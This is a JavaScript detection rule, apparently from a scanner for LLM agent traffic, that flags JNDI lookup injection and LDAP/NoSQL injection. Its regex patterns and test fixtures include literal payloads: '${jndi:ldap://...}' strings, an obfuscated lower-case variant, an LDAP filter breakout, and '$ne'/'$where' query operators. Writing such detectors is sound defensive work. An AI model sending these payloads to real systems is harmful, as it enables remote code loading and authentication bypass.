import { defineRule } from '../rule.js';

export default defineRule({
  id: 'payload/lookup-injection',
  title: 'Carries an injection into a lookup or a query',
  outbound: true,
  detector: 'pattern',
  severity: 'high',
  phase: 'actions_on_objective',
  tags: ['LLM05:2025', 'ASI05:2026', 'MCP05:2025'],
  why: 'A library or a database that evaluates the value loads code of the attacker, or returns more than was asked for.',
  fix: 'Refuse the value. Update the library, and escape what is meant as text.',
  surfaces: ['tool', 'tool-call', 'tool-result', 'output', 'prompt', 'memory', 'skill', 'server-instructions'],
  variants: [
    {
      id: 'payload/jndi-lookup',
      name: 'JNDI',
      keywords: ['jndi', `\${lower`, `\${upper`, `\${env:`, `\${::-`],
      patterns: [
        /\$\{\s?(?:jndi|(?:\$\{(?:lower|upper|env:\w{0,20}:?-?|::-|date):?["']?[jndi]["']?\}|[jndi]){4})\s?:/,
        /\$\{jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http):/,
      ],
      match: [
        `\${jndi:ldap://a.example/x}`,
        `User-Agent: \${jndi:rmi://a.example/o}`,
        `\${\${lower:j}ndi:ldap://a.example}`,
      ],
      clean: [
        ['JNDI is a naming interface of Java.', 'an explanation'],
        [`\${env.HOME}/bin`, 'a variable'],
      ],
    },
    {
      id: 'payload/ldap-injection',
      name: 'LDAP or NoSQL',
      severity: 'low',
      keywords: ['*)(', '$ne', '$gt', '$where', '$regex', 'objectclass=*', '(|('],
      patterns: [
        /\*\)\s?\(\s?[|&]?\s?\(?\s?(?:uid|cn|objectclass|user\w{0,12}|mail|password)\s?=/,
        /["'{]\s?\$(?:ne|gt|gte|regex|nin)["']?\s?:\s?(?:null|["']{2}|1(?=\D)|["']\.\*["']|["']?-1)/,
        /["']?\$where["']?\s?:\s?["'][^"'\n]{0,120}(?:sleep|return|this\.|function)/,
      ],
      unlessNegated: true,
      unless: [
        /\b(?:explain|what (?:is|are|does)|semantics|prevents?|prevented|preventing|block(?:s|ed)?|reject(?:s|ed)?|detects?|escap(?:e|es|ed|ing)|sanitiz\w{0,4}|protects?|vulnerab\w{0,8}|such as|e\.g|for example|attempts?|disallow\w{0,3}|denied|is (?:the|an|a)|lives at|why|logs?|attack)\b/,
      ],
      match: ['*)(uid=*))(|(uid=*', 'body: {"password": {"$ne": null}}', 'filter: {"$where": "sleep(1000)"}'],
      clean: [
        ['(&(objectClass=person)(uid=ada))', 'an ordinary filter'],
        ['filter: {"age": {"$gt": 18}}', 'an ordinary query'],
      ],
    },
  ],
});
